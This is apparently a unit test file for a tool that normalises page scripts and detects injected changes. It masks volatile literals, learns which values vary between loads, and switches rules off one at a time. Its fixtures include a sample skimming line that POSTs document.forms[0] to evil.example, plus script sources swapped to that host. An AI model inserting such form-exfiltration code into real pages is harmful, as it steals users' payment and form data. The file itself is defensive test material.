// Unit: masking rules, learning volatile literals from two loads, and per-script rule switches.

import assert from 'node:assert/strict';
import { describe, it } from 'vitest';
import { learnVolatile } from '../../src/plan/learn-volatile.js';
import { describeMasking, maskVolatile, normalizeCode } from '../../src/plan/normalize.js';
import { tokenize } from '../../src/plan/js-lexer.js';

describe('maskVolatile', () => {
  it('masks timestamps, ids and tokens but keeps code and hosts', () => {
    assert.equal(
      maskVolatile('var t = 1732262400123, d = "2026-11-22T08:00:00Z", id = "3f2a9c1e-77b1-4c2d-9e0f-1a2b3c4d5e6f", h = "9f86d081884c7d659a2feaa0c55ad015";'),
      'var t = <number> , d = "<time>" , id = "<uuid>" , h = "<hex>" ;',
    );
    assert.equal(maskVolatile('csrf = "q7Zx2Lp9Wm4Rt8Yv3Nb6Kd1F"; send("https://evil.example/c")'), 'csrf = "<token>" ; send ( "https://evil.example/c" )');
    assert.equal(maskVolatile('document.getElementById("checkout_form_card_number")'), 'document . getElementById ( "checkout_form_card_number" )');
  });
  it('folds formatting: a re-indented copy compares equal', () => {
    assert.equal(maskVolatile('if(a){b()}'), maskVolatile('if (a) {\n  b();\n}'.replace(';', '')));
  });
});

describe('tokenize', () => {
  it('keeps strings, templates, regexes and comments whole and loses no character', () => {
    const code = 'var re = /a"b/g, s = "x\\"y", t = `a${b + "}"}c`; // note\nx = a / b / c;';
    const tokens = tokenize(code);
    assert.equal(tokens.map((t) => t.text).join(''), code);
    assert.ok(tokens.some((t) => t.type === 'regex' && t.text === '/a"b/g'));
    assert.ok(tokens.some((t) => t.type === 'template' && t.text === '`a${b + "}"}c`'));
    assert.ok(tokens.some((t) => t.type === 'comment'));
    assert.equal(tokens.filter((t) => t.type === 'regex').length, 1);
  });
});

describe('learnVolatile', () => {
  const first = 'window.cfg = { sid: "k3j4h5", build: \'b-771\', t: 1732270000, page: "checkout" }; track(cfg);';
  const second = 'window.cfg = { sid: "zz91ab", build: \'b-772\', t: 1732270999, page: "checkout" }; track(cfg);';

  it('learns literals that differ between two loads, and masks them afterwards', () => {
    const learned = learnVolatile(first, second);
    assert.equal(learned.structural, false);
    assert.equal(learned.anchors.length, 3);
    const settings = { disabled: [], learned: learned.anchors };
    const third = first.replace('k3j4h5', 'q0q0q0').replace('1732270000', '1732279999');
    assert.equal(normalizeCode(third, settings).text, normalizeCode(first, settings).text);
    // A short session id like "k3j4h5" is not caught by the generic rules: only learning masks it.
    assert.notEqual(maskVolatile(third), maskVolatile(first));
  });
  it('never learns added code, and still sees a changed literal elsewhere', () => {
    const attacked = second.replace('track(cfg);', 'track(cfg); fetch("https://evil.example/c", { method: "POST", body: document.forms[0] });');
    const learned = learnVolatile(first, attacked);
    assert.equal(learned.structural, true);
    const settings = { disabled: [], learned: learned.anchors };
    assert.notEqual(normalizeCode(attacked, settings).text, normalizeCode(first, settings).text);
    assert.notEqual(normalizeCode(first.replace('"checkout"', '"https://evil.example/x"'), settings).text, normalizeCode(first, settings).text);
  });
  it('does not learn a literal swapped for a URL', () => {
    const learned = learnVolatile('load("https://cdn.example/a.js")', 'load("https://evil.example/a.js")');
    assert.deepEqual(learned.anchors, []);
    assert.equal(learned.structural, true);
  });
});

describe('rule switches', () => {
  it('turns each masking rule off on its own and says which rule masked what', () => {
    const a = 'var built = "2026-11-22T08:00:00Z", token = "q7Zx2Lp9Wm4Rt8Yv3Nb6Kd1F";';
    const b = 'var built = "2026-11-23T09:30:00Z", token = "Zq9Lp7Wx2Rt4Mm8Yv3Nb6Kd1";';
    assert.equal(normalizeCode(a).text, normalizeCode(b).text);
    assert.notEqual(normalizeCode(a, { disabled: ['timestamps'], learned: [] }).text, normalizeCode(b, { disabled: ['timestamps'], learned: [] }).text);
    assert.notEqual(normalizeCode(a, { disabled: ['quoted-tokens'], learned: [] }).text, normalizeCode(b, { disabled: ['quoted-tokens'], learned: [] }).text);
    assert.notEqual(normalizeCode('a = 1;', { disabled: ['whitespace'], learned: [] }).text, normalizeCode('a=1;', { disabled: ['whitespace'], learned: [] }).text);
    const said = describeMasking(normalizeCode(b).hits);
    assert.match(said, /timestamps: 1 value \(e\.g\. 2026-11-23T09:30:00Z\)/);
    assert.match(said, /quoted-tokens: 1 value/);
    const learned = learnVolatile('x = { s: "k3j4h5" }', 'x = { s: "zz91ab" }').anchors;
    assert.notEqual(normalizeCode('x = { s: "k3j4h5" }', { disabled: ['learned-tokens'], learned }).text, normalizeCode('x = { s: "zz91ab" }', { disabled: ['learned-tokens'], learned }).text);
  });
});
